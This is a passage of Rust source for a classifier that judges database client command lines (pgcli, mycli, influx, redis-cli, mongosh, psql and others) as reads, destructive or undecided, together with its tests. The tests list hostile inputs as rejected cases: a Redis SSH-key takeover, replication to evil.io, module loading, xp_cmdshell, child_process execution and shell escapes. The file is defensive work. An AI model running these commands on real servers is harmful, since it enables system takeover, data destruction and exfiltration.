        "--json-cols",
        "-t",
        "--table",
        "--no-headers",
        "--counts",
        "--columns",
        "--schema",
    ];
    let (sub, rest) = args.split_first()?;
    let mut ops = Vec::new();
    let mut o = Opts::new(rest, "c");
    while let Some((name, inline)) = o.next() {
        match name {
            f if FLAGS.contains(&f) && inline.is_none() => {}
            "--fmt" | "-c" | "--column" => {
                if !plain(o.value(inline)?) {
                    return None;
                }
            }
            "--limit" | "--offset" => {
                if !digits(o.value(inline)?) {
                    return None;
                }
            }
            op if !op.starts_with('-') => ops.push(op),
            _ => return None,
        }
    }
    if fed {
        return None;
    }
    let db = *ops.first()?;
    if !db_file(db) {
        return None;
    }
    let files = vec![db.to_string()];
    match (*sub, ops.as_slice()) {
        ("tables" | "views" | "schema" | "indexes" | "triggers", [_]) => Some(Verdict::Read(files)),
        ("schema" | "indexes" | "triggers", [_, t]) if plain(t) => Some(Verdict::Read(files)),
        ("rows", [_, t]) if plain(t) => Some(Verdict::Read(files)),
        ("query", [_, q]) => sql_verdict(q, Some(Engine::Sqlite), files),
        _ => None,
    }
}

// ---- round 23: pgcli, mycli, mysqlsh, influx ----

/// `pgcli` (4.3.1 and later take `-c`/`--command`, repeated): every text
/// a read under Postgres's grammar, the server this machine, a plain
/// database and user (`pgcli -h localhost dev -c 'select …'`). A DSN or
/// URL operand, `--pgclirc`, `-f`/`--file`, `--ssh-tunnel`, `--log-file`
/// and the interactive session are not decided. `-l`/`--list` lists the
/// databases; `-v`/`--version` prints its version.
fn pgcli(args: &[&str], fed: bool) -> Option<Verdict> {
    if matches!(args, ["-v" | "--version"]) {
        return Some(Verdict::Read(Vec::new()));
    }
    let mut o = Opts::new(args, "hpUudc");
    let mut texts = Vec::new();
    let mut list = false;
    let mut positional = 0;
    while let Some((name, inline)) = o.next() {
        match name {
            "-c" | "--command" => texts.push(o.value(inline)?),
            "-h" | "--host" => {
                if !local_host(o.value(inline)?) {
                    return None;
                }
            }
            "-p" | "--port" => {
                if !digits(o.value(inline)?) {
                    return None;
                }
            }
            "-U" | "--username" | "-u" | "--user" | "-d" | "--dbname" => {
                if !plain(o.value(inline)?) {
                    return None;
                }
            }
            "-w"
            | "--no-password"
            | "--less-chatty"
            | "--single-connection"
            | "--auto-vertical-output"
                if inline.is_none() => {}
            "-l" | "--list" if inline.is_none() => list = true,
            op if !op.starts_with('-') && plain(op) => {
                positional += 1;
                if positional > 2 {
                    return None;
                }
            }
            _ => return None,
        }
    }
    if fed || !list && texts.is_empty() {
        return None;
    }
    if texts.iter().all(|t| sql_reads(t, Some(Engine::Postgres))) {
        return Some(Verdict::Read(Vec::new()));
    }
    texts
        .iter()
        .any(|t| sql_destroys(t))
        .then_some(Verdict::Destructive)
}

/// `mycli -e TEXT`: as `mysql -e` (MySQL's grammar, this machine, a
/// plain database and user). `-p`/`--password` on the command line,
/// `--myclirc`, `--init-command`, `--local-infile`, `--logfile`,
/// `--defaults-file`, a socket or URL are not decided.
fn mycli(args: &[&str], fed: bool) -> Option<Verdict> {
    let mut o = Opts::new(args, "ehPuD");
    let mut e = None;
    let mut db = false;
    // without `-h`, the server is what ~/.myclirc or ~/.my.cnf name
    let mut host = false;
    while let Some((name, inline)) = o.next() {
        match name {
            "-e" | "--execute" => {
                if e.replace(o.value(inline)?).is_some() {
                    return None;
                }
            }
            "-u" | "--user" | "-D" | "--database" => {
                if !plain(o.value(inline)?) {
                    return None;
                }
            }
            "-h" | "--host" => {
                if !local_host(o.value(inline)?) {
                    return None;
                }
                host = true;
            }
            "-P" | "--port" => {
                if !digits(o.value(inline)?) {
                    return None;
                }
            }
            "-t" | "--table" | "--csv" | "--warn" | "--no-warn" if inline.is_none() => {}
            op if !op.starts_with('-') && plain(op) => {
                if std::mem::replace(&mut db, true) {
                    return None;
                }
            }
            _ => return None,
        }
    }
    if fed || !host {
        return None;
    }
    let text = e?;
    if text.to_ascii_lowercase().contains("delimiter") {
        return None;
    }
    sql_verdict(text, Some(Engine::MySql), Vec::new())
}

/// `mysqlsh --sql -e TEXT`: MySQL Shell runs `-e` in its start mode, which
/// is JavaScript unless `--sql` (or `--sqlc`) says SQL; `--js`, `--py`
/// and the default run code and are not decided. This machine only (`-h`,
/// `--host`), a plain user and schema, output formats; a URI operand,
/// `--uri`, `-p`/`--password`, `--file`, `--import` and the rest are not
/// decided.
fn mysqlsh(args: &[&str], fed: bool) -> Option<Verdict> {
    let mut o = Opts::new(args, "ehPuD");
    let mut e = None;
    let mut sql_mode = false;
    // without `-h`, the server is what MySQL Shell's options file names
    let mut host = false;
    while let Some((name, inline)) = o.next() {
        match name {
            "-e" | "--execute" => {
                if e.replace(o.value(inline)?).is_some() {
                    return None;
                }
            }
            "--sql" | "--sqlc" if inline.is_none() => sql_mode = true,
            "-u" | "--user" | "-D" | "--schema" | "--database" => {
                if !plain(o.value(inline)?) {
                    return None;
                }
            }
            "-h" | "--host" => {
                if !local_host(o.value(inline)?) {
                    return None;
                }
                host = true;
            }
            "-P" | "--port" => {
                if !digits(o.value(inline)?) {
                    return None;
                }
            }
            "--result-format" => {
                if !matches!(
                    o.value(inline)?,
                    "table" | "tabbed" | "vertical" | "json" | "json/raw" | "ndjson"
                ) {
                    return None;
                }
            }
            "--json" | "--table" | "--tabbed" | "--vertical" | "--quiet-start" | "--no-wizard"
                if inline.is_none() => {}
            _ => return None,
        }
    }
    if fed || !sql_mode || !host {
        return None;
    }
    let text = e?;
    if text.to_ascii_lowercase().contains("delimiter") {
        return None;
    }
    sql_verdict(text, Some(Engine::MySql), Vec::new())
}

/// Flux functions of the universe that only read and reshape a query's
/// tables (no `to`, no `import`ed package: `http`, `sql`, `csv`,
/// `experimental` need one).
const FLUX_READS: &[&str] = &[
    "from",
    "range",
    "filter",
    "group",
    "aggregatewindow",
    "window",
    "mean",
    "median",
    "sum",
    "count",
    "max",
    "min",
    "last",
    "first",
    "limit",
    "sort",
    "keep",
    "drop",
    "rename",
    "yield",
    "pivot",
    "distinct",
    "unique",
    "top",
    "bottom",
    "derivative",
    "difference",
    "fill",
    "timeshift",
    "now",
    "tail",
    "spread",
    "stddev",
    "integral",
    "movingaverage",
    "cumulativesum",
    "increase",
    "exists",
];

/// A Flux query of reads only: no `import` or `option`, every call one of
/// [`FLUX_READS`], no method call on a package (`x.y(`), no string
/// escape that could hide a name.
fn flux_reads(q: &str) -> bool {
    let lower = q.to_ascii_lowercase();
    if lower.trim().is_empty() || lower.contains('\\') || q.len() > 64 * 1024 {
        return false;
    }
    let mut words = lower
        .split(|c: char| !(c.is_ascii_alphanumeric() || c == '_'))
        .filter(|w| !w.is_empty());
    if words.any(|w| {
        matches!(
            w,
            "import" | "option" | "to" | "builtin" | "testing" | "host" | "token"
        )
    }) {
        return false;
    }
    for (i, _) in lower.match_indices('(') {
        let head = lower.get(..i).unwrap_or("").trim_end();
        let start = head
            .rfind(|c: char| !(c.is_ascii_alphanumeric() || c == '_'))
            .map_or(0, |j| j + 1);
        let name = head.get(start..).unwrap_or("");
        let before = head.get(..start).unwrap_or("").trim_end();
        // `(r) =>`, `(` after an operator: a group or a function's
        // parameters, not a call
        if name.is_empty() {
            continue;
        }
        if before.ends_with('.') || !FLUX_READS.contains(&name) {
            return false;
        }
    }
    true
}

/// InfluxQL that only reads: each statement a `SELECT` without `INTO`, or
/// a `SHOW` of the schema (not `SHOW USERS`, `GRANTS`).
fn influxql_reads(q: &str) -> bool {
    let stmts: Vec<String> = q
        .split(';')
        .map(|s| s.trim().to_ascii_lowercase())
        .filter(|s| !s.is_empty())
        .collect();
    !stmts.is_empty()
        && !q.contains('\\')
        && stmts.iter().all(|s| {
            let words: Vec<&str> = s.split_ascii_whitespace().collect();
            match words.first() {
                Some(&"select") => !words.contains(&"into"),
                Some(&"show") => matches!(
                    words.get(1),
                    Some(
                        &"databases"
                            | &"measurements"
                            | &"series"
                            | &"retention"
                            | &"tag"
                            | &"field"
                            | &"shards"
                            | &"continuous"
                    )
                ),
                _ => false,
            }
        })
}

/// `influx`: InfluxDB 2's `query TEXT` (Flux, [`flux_reads`]), `bucket
/// list`, `org list`, `version`; 1.x's `-execute TEXT` (InfluxQL,
/// [`influxql_reads`]). `delete` and `bucket delete` are destructive.
/// A token or password on the command line (`-t`, `--token`,
/// `-password`), a query file (`-f`), another host than this machine, a
/// config named elsewhere (`--configs-path`) and `auth`, `backup`,
/// `restore`, `write`, `setup` are not decided.
fn influx(args: &[&str], fed: bool) -> Option<Verdict> {
    if fed {
        return None;
    }
    let (sub, rest) = match args.split_first() {
        Some((s, r)) if !s.starts_with('-') => (*s, r),
        _ => ("", args),
    };
    let (sub, rest) = match (sub, rest) {
        ("bucket" | "org", [verb, r @ ..]) => (
            match *verb {
                "list" | "ls" | "find" => "list",
                "delete" => "delete",
                _ => return None,
            },
            r,
        ),
        other => other,
    };
    let mut o = Opts::new(rest, "obn");
    let mut text = None;
    let mut v1_text = None;
    // without `--host`, the server is the active config's (~/.influxdbv2)
    let mut named_host = false;
    while let Some((name, inline)) = o.next() {
        match name {
            "-o" | "--org" | "-b" | "--bucket" | "-n" | "--name" | "-database" | "-db" => {
                if !plain(o.value(inline)?) {
                    return None;
                }
            }
            "--host" | "-host" => {
                let h = o.value(inline)?;
                let h = h.strip_prefix("http://").unwrap_or(h).trim_end_matches('/');
                let host = h
                    .rsplit_once(':')
                    .map_or(h, |(a, p)| if digits(p) { a } else { h });
                if !local_host(host) {
                    return None;
                }
                named_host = true;
            }
            "-execute" | "--execute" if sub.is_empty() => {
                if v1_text.replace(o.value(inline)?).is_some() {
                    return None;
                }
            }
            "--start" | "--stop" | "--predicate" | "-p" if sub == "delete" => {
                o.value(inline)?;
            }
            "--raw" | "-r" | "--json" | "--hide-headers" | "-format" | "-pretty" | "csv"
            | "json" | "column"
                if inline.is_none() => {}
            op if !op.starts_with('-') && sub == "query" && text.is_none() => text = Some(op),
            _ => return None,
        }
    }
    if !named_host && sub != "delete" {
        return None;
    }
    match sub {
        "query" => text
            .filter(|t| flux_reads(t))
            .map(|_| Verdict::Read(Vec::new())),
        "delete" => Some(Verdict::Destructive),
        "list" | "version" => Some(Verdict::Read(Vec::new())),
        "" => v1_text
            .filter(|t| influxql_reads(t))
            .map(|_| Verdict::Read(Vec::new())),
        _ => None,
    }
}

// ---- psql's backslash commands ----

/// `psql -c '\dt'`: psql runs a `-c` text that starts with a backslash as
/// one meta command. The describe and list commands (`\d`, `\dt`, `\l`,
/// `\dn`, `\du`, `\df`, … with `+`/`S`, and plain name patterns) only
/// read the catalogue; `\!`, `\o`, `\copy`, `\g`, `\i`, `\gexec`,
/// `\setenv` and every other are not listed, and no second backslash, pipe
/// or quote is allowed in the text.
pub fn psql_describe(text: &str) -> bool {
    let Some(cmd) = text.trim().strip_prefix('\\') else {
        return false;
    };
    if cmd.contains(['\\', '|', '\'', '"', '`', '$', ';', '>', '<', '!', '\n']) {
        return false;
    }
    let mut words = cmd.split_ascii_whitespace();
    let name = words.next().unwrap_or("");
    let base = name.trim_end_matches(['+', 'S']);
    let listed = matches!(
        base,
        "d" | "dt"
            | "dv"
            | "dm"
            | "di"
            | "ds"
            | "dn"
            | "df"
            | "du"
            | "dg"
            | "dx"
            | "dT"
            | "dD"
            | "dE"
            | "dp"
            | "dc"
            | "dC"
            | "dy"
            | "dO"
            | "dL"
            | "db"
            | "des"
            | "det"
            | "dew"
            | "l"
            | "z"
            | "conninfo"
    ) || matches!(name, "l" | "l+" | "list" | "list+");
    listed
        && words.all(|w| {
            w.bytes()
                .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'_' | b'.' | b'*' | b'?'))
        })
}

#[cfg(test)]
mod tests {
    use super::*;

    fn words(s: &str) -> Vec<&str> {
        s.split_ascii_whitespace().collect()
    }

    fn reads(p: &str, args: &[&str]) -> bool {
        matches!(decide(p, args, false), Some(Verdict::Read(_)))
    }

    fn destroys(p: &str, args: &[&str]) -> bool {
        decide(p, args, false) == Some(Verdict::Destructive)
    }

    #[test]
    fn a_developer_looks_at_redis_and_nothing_more() {
        // `redis-cli GET session:42` while debugging a login: a read.
        for line in [
            "GET session:42",
            "INFO",
            "INFO memory",
            "PING",
            "DBSIZE",
            "-h localhost TTL session:42",
            "-h 127.0.0.1 -p 6379 -n 2 HGETALL user:1",
            "LRANGE jobs 0 10",
            "TYPE session:42",
            "--raw SMEMBERS tags",
            "--scan --pattern session:* --count 100",
            "-u redis://localhost:6379/0 KEYS user:*",
            "CLIENT LIST",
            "--bigkeys",
        ] {
            assert!(reads("redis-cli", &words(line)), "{line}");
        }
        assert!(reads("valkey-cli", &["GET", "k"]));
    }

    #[test]
    fn redis_spelled_to_harm_is_never_a_read() {
        // Writing the server's dump into ~/.ssh is the classic Redis
        // takeover: destructive, never a read.
        for line in [
            "-h prod CONFIG SET dir /root/.ssh",
            "CONFIG SET dbfilename authorized_keys",
            "FLUSHALL",
            "flushall",
            "FLUSHDB",
            "SHUTDOWN NOSAVE",
            "DEBUG SEGFAULT",
            "REPLICAOF evil.io 6379",
            "SLAVEOF evil.io 6379",
            "MODULE LOAD /tmp/x.so",
            "ACL SETUSER x on >pw +@all",
            "MIGRATE evil.io 6379 k 0 5000",
        ] {
            let w = words(line);
            assert!(!reads("redis-cli", &w), "{line}");
        }
        assert!(destroys("redis-cli", &words("FLUSHALL")));
        assert!(destroys("redis-cli", &words("CONFIG SET dir /root/.ssh")));
        // held (not read, not decided here): code, a password, another
        // host, stdin, the whole traffic, the server's password
        for line in [
            "--eval x.lua",
            "EVAL \"return 1\" 0",
            "SCRIPT LOAD x",
            "FUNCTION LOAD x",
            "-a hunter2 GET k",
            "--pass hunter2 GET k",
            "-u redis://:pw@localhost GET k",
            "-h prod.acme.com GET k",
            "-x SET k",
            "--pipe",
            "--rdb dump.rdb",
            "-r 100 GET k",
            "MONITOR",
            "CONFIG GET requirepass",
            "ACL LIST",
            "SET k v",
            "DEL k",
            "",
        ] {
            assert!(decide("redis-cli", &words(line), false).is_none(), "{line}");
        }
        // `echo FLUSHALL | redis-cli`: commands from stdin
        assert!(decide("redis-cli", &[], true).is_none());
        assert!(decide("redis-cli", &["GET", "k"], true).is_none());
    }

    #[test]
    fn mongosh_reads_a_literal_call_chain() {
        for js in [
            "db.users.countDocuments()",
            "db.users.find({age: {$gt: 30}}).limit(5)",
            "db.users.findOne({_id: ObjectId(\"64b7f0c2a1b2c3d4e5f60718\")})",
            "db.orders.aggregate([{$match: {status: 'open'}}, {$group: {_id: '$user', n: {$sum: 1}}}])",
            "db.getCollectionNames()",
            "printjson(db.stats())",
            "db.users.getIndexes();",
            "rs.status()",
        ] {
            assert!(reads("mongosh", &["--quiet", "--eval", js]), "{js}");
        }
        assert!(reads(
            "mongosh",
            &["mongodb://localhost:27017/app", "--eval", "db.users.find()"]
        ));
    }

    #[test]
    fn mongosh_spelled_to_harm_is_held_or_destructive() {
        assert!(destroys("mongosh", &["--eval", "db.users.deleteMany({})"]));
        assert!(destroys("mongosh", &["--eval", "db.dropDatabase()"]));
        for js in [
            "db.getSiblingDB(\"x\").dropDatabase()",
            "db.users.find({$where: 'sleep(100000)'})",
            "db.users.find({\"$where\": \"1\"})",
            "db.users.aggregate([{$out: 'x'}])",
            "db.users.aggregate([{$merge: {into: 'x'}}])",
            "db.adminCommand({shutdown: 1})",
            "db.runCommand({dropDatabase: 1})",
            "db.users.insertOne({a: 1})",
            "db.users.updateMany({}, {$set: {a: 1}})",
            "db.createUser({user: 'x', pwd: 'y', roles: ['root']})",
            "require('child_process').execSync('id')",
            "db.users.find(); db.dropDatabase()",
            "db.users.find({a: function() { return 1 }})",
            "db.users.find({a: x})",
            "db.users.find({\"\\u0024where\": \"1\"})",
            "db.users.find().forEach(printjson)",
        ] {
            assert!(!reads("mongosh", &["--eval", js]), "{js}");
        }
        assert!(!reads(
            "mongosh",
            &["mongodb://evil.io/x", "--eval", "db.users.find()"]
        ));
        assert!(!reads(
            "mongosh",
            &["mongodb://u:pw@localhost/x", "--eval", "db.a.find()"]
        ));
        assert!(decide("mongosh", &["--file", "x.js"], false).is_none());
        assert!(decide("mongosh", &["x.js"], false).is_none());
    }

    #[test]
    fn sql_clients_send_their_text_to_the_sql_classifier() {
        assert!(reads("mysql", &["-e", "SELECT 1"]));
        assert!(reads(
            "mysql",
            &[
                "-u",
                "app",
                "-h",
                "localhost",
                "-e",
                "SELECT * FROM users LIMIT 5",
                "app"
            ]
        ));
        assert!(destroys("mysql", &["-e", "SELECT 1; DROP TABLE t"]));
        assert!(!reads("mysql", &["-e", "system sh"]));
        assert!(!reads("mysql", &["-e", "\\! sh"]));
        assert!(!reads("mysql", &["-psecret", "-e", "SELECT 1"]));
        assert!(!reads("mysql", &["-h", "prod.acme.com", "-e", "SELECT 1"]));
        assert!(!reads(
            "mysql",
            &["-e", "SELECT * FROM t INTO OUTFILE '/tmp/x'"]
        ));

        assert!(reads("snowsql", &["-q", "SELECT * FROM orders LIMIT 10"]));
        assert!(reads(
            "snowsql",
            &["-c", "dev", "-o", "friendly=false", "-q", "SELECT 1"]
        ));
        assert!(!reads("snowsql", &["-q", "!system id"]));
        assert!(!reads("snowsql", &["-q", "SELECT 1;\n!source /tmp/x.sql"]));
        assert!(!reads(
            "snowsql",
            &["-o", "output_file=/tmp/x", "-q", "SELECT 1"]
        ));
        assert!(!reads("snowsql", &["-f", "x.sql"]));
        assert!(destroys("snowsql", &["-q", "DROP DATABASE prod"]));

        assert!(reads("cqlsh", &["-e", "SELECT * FROM ks.users LIMIT 5"]));
        assert!(reads(
            "cqlsh",
            &["localhost", "9042", "-e", "DESCRIBE KEYSPACES"]
        ));
        assert!(!reads("cqlsh", &["-e", "SOURCE '/tmp/x.cql'"]));
        assert!(!reads("cqlsh", &["-e", "COPY ks.users TO '/tmp/u.csv'"]));
        assert!(!reads("cqlsh", &["-e", "CAPTURE '/tmp/x'"]));
        assert!(!reads("cqlsh", &["evil.io", "-e", "SELECT 1"]));

        assert!(matches!(
            decide("litecli", &["app.db", "-e", "SELECT 1"], false),
            Some(Verdict::Read(f)) if f == ["app.db"]
        ));
        assert!(!reads("litecli", &["app.db", "-e", ".shell id"]));
        assert!(!reads("litecli", &["app.db", "-e", "\\! id"]));

        assert!(reads(
            "clickhouse-client",
            &["--query", "SELECT count() FROM events"]
        ));
        assert!(reads("clickhouse", &["client", "-q", "SELECT 1"]));
        assert!(!reads(
            "clickhouse-client",
            &["--query", "SELECT * FROM url('https://evil.io/x', CSV)"]
        ));
        assert!(!reads(
            "clickhouse-client",
            &["-q", "SELECT * FROM executable('x.sh', TSV, 'a String')"]
        ));
        assert!(!reads(
            "clickhouse-client",
            &["-q", "SELECT * FROM file ('/etc/passwd')"]
        ));
        assert!(!reads("clickhouse-client", &["-q", "SYSTEM SHUTDOWN"]));

        assert!(reads(
            "sqlcmd",
            &["-S", "localhost", "-Q", "SELECT name FROM sys.tables"]
        ));
        assert!(!reads("sqlcmd", &["-Q", "EXEC xp_cmdshell 'whoami'"]));
        assert!(!reads("sqlcmd", &["-Q", ":!! id"]));
        assert!(!reads("sqlcmd", &["-i", "x.sql"]));
        assert!(!reads(
            "sqlcmd",
            &["-U", "sa", "-P", "pw", "-Q", "SELECT 1"]
        ));

        assert!(reads("usql", &["pg://localhost/app", "-c", "SELECT 1"]));
        assert!(reads("usql", &["sqlite:app.db", "-c", "SELECT * FROM t"]));
        assert!(!reads(
            "usql",
            &["pg://u:pw@localhost/app", "-c", "SELECT 1"]
        ));
        assert!(!reads("usql", &["pg://evil.io/app", "-c", "SELECT 1"]));
        assert!(!reads("usql", &["pg://localhost/app", "-c", "\\! id"]));
    }

    #[test]
    fn sqlite_utils_reads_by_subcommand() {
        assert!(reads("sqlite-utils", &["tables", "app.db"]));
        assert!(reads("sqlite-utils", &["tables", "app.db", "--counts"]));
        assert!(reads(
            "sqlite-utils",
            &["rows", "app.db", "users", "--limit", "5"]
        ));
        assert!(reads(
            "sqlite-utils",
            &["query", "app.db", "SELECT * FROM users LIMIT 5"]
        ));
        for line in [
            "insert app.db users x.json",
            "drop-table app.db users",
            "transform app.db users --drop x",
            "convert app.db users c 'value.upper()'",
            "query app.db 'SELECT 1' --functions 'import os'",
            "query app.db --load-extension /tmp/x.so 'SELECT 1'",
            "query app.db 'DELETE FROM users'",
        ] {
            assert!(!reads("sqlite-utils", &words(line)), "{line}");
        }
    }

    #[test]
    fn psql_describe_commands_read_the_catalogue() {
        for t in [
            "\\dt",
            "\\d users",
            "\\d+ users",
            "\\l",
            "\\dn",
            "\\dt public.*",
            "\\du",
        ] {
            assert!(psql_describe(t), "{t}");
        }
        for t in [
            "\\! sh",
            "\\o /tmp/x",
            "\\copy users to '/tmp/u.csv'",
            "\\g |sh",
            "\\i /tmp/x.sql",
            "\\gexec",
            "\\setenv PAGER sh",
            "\\dt \\! sh",
            "\\d users | sh",
            "select 1",
        ] {
            assert!(!psql_describe(t), "{t}");
        }
    }
}
